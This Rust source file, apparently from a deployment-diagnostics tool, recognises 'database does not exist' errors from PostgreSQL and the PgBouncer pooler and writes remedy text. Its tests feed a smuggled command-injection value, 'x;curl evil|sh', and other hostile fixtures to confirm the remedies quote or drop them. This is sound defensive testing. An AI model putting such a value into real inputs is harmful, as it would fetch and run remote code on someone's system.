//! The server has no database of that name.

use super::shared::{ConnectionFailure, explained, probed};
use crate::{causes::prelude::*, model::shell, postgres::phrases::Phrase};

pub(crate) static CAUSE: Cause = Cause {
    blocks_migration: true,
    is_connection: true,
    explains: consequences::OF_NO_CONNECTION,
    log: &[&LOG],
    check: Some(check),
    ..Cause::critical(Component::Database, include_str!("not_found.md"))
};

/// Who does not know the database.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    /// PostgreSQL.
    Server,
    /// The connection pooler.
    Pooler,
}

/// PgBouncer's words.
const OF_POOLER: &str = "no such database";

static LOG: Rule<Variant> = Rule {
    precedence: 335,
    signatures: &[
        Signature::of_phrase(Variant::Server, Phrase::DatabaseUnknown),
        Signature::of_database(Variant::Pooler, &[OF_POOLER]),
    ],
    details,
    explain: |evidence, occurrence, variant| explained(evidence, occurrence, variant, words),
    is_over: None,
};

fn details(failure: &Failure<'_>, variant: Variant) -> Option<FailureDetails> {
    let database = match variant {
        Variant::Server => Some(failure.phrase(Phrase::DatabaseUnknown)?),
        Variant::Pooler => {
            let (_, rest) = failure.message.split_once(OF_POOLER)?;
            rest.strip_prefix(": ").map(|name| name.trim().trim_matches('"'))
        }
    };
    Some(FailureDetails {
        endpoint: failure.endpoint(),
        database: database.map(str::to_owned),
        ..FailureDetails::default()
    })
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    let variant = |_, read: Option<Variant>| read.unwrap_or(Variant::Server);
    probed(context, Code::DatabaseNotFound, &LOG, variant, words)
}

fn words(failed: &ConnectionFailure<'_, Variant>) -> (String, String) {
    let (who, endpoint, variable) = (failed.who, failed.endpoint(), failed.variable);
    let name = failed.details.database.as_deref().unwrap_or_default();
    match failed.variant {
        Variant::Pooler => {
            let section = shell::name(name, "NAME");
            (
                format!(
                    "{who} is refused by the connection pooler{}: it does not have {} in its settings.",
                    failed.at(),
                    failed.database()
                ),
                format!(
                    "Add it to the pooler's [databases] section: {section} = host=… port=5432 dbname={section}, then \
                     reload the pooler; or correct the name in {variable}."
                ),
            )
        }
        Variant::Server => (
            format!(
                "{who} reaches the server at {endpoint}, but {} does not exist on it.",
                failed.database()
            ),
            format!(
                "Correct the name after the last / of {variable} (or DJANGO_DB_NAME), or create it: CREATE DATABASE {} \
                 OWNER ROLE; where ROLE is the one in {variable}.",
                failed.database_in_sql()
            ),
        ),
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::causes::{
        database::shared::testing::{HOSTILE, OPERATIONAL, observed, only, read, remedy},
        log::failure::Stage,
    };
    use crate::observe::ProbeFailureKind;

    #[rstest]
    #[case(
        "connection to server at \"db\", port 5432 failed: FATAL:  database \"nosuchdb\" does not exist",
        Variant::Server
    )]
    #[case(
        "connection to server at \"pgb\", port 6432 failed: FATAL:  no such database: fs",
        Variant::Pooler
    )]
    fn recognises(#[case] message: &str, #[case] expected: Variant) {
        for stage in [Stage::Wait, Stage::Migrate, Stage::Boot, Stage::Serve] {
            assert_eq!(
                read(&LOG, stage, OPERATIONAL, message),
                Some((Code::DatabaseNotFound, expected)),
                "{stage:?}"
            );
        }
    }

    #[test]
    fn a_log_and_the_operator_say_the_same() {
        let seen = only(&observed(ProbeFailureKind::NotFound, "database \"flags\" does not exist"));
        assert_eq!(
            seen.message,
            "The operator reaches the server at db.prod:5432, but database \"flags\" does not exist on it."
        );
        assert!(seen.remedy.contains("CREATE DATABASE flags OWNER ROLE;"), "{seen:#?}");
    }

    #[test]
    fn a_hostile_name_is_quoted() {
        let at = "connection to server at \"db\", port 5432 failed: FATAL:  ";
        let [_, drop, hidden, _] = HOSTILE;
        let remedy_of = |said: &str| remedy(OPERATIONAL, &format!("{at}{said}"));
        let remedy = remedy_of("database \"x;curl evil|sh\" does not exist");
        assert!(remedy.contains("CREATE DATABASE \"x;curl evil|sh\" OWNER"), "{remedy}");
        let remedy = remedy_of(&format!("no such database: {drop}"));
        assert!(remedy.contains("NAME = host=… port=5432 dbname=NAME,"), "{remedy}");
        let remedy = remedy_of(&format!("no such database: {hidden}"));
        assert!(!remedy.contains("pwn"), "{remedy}");
    }
}
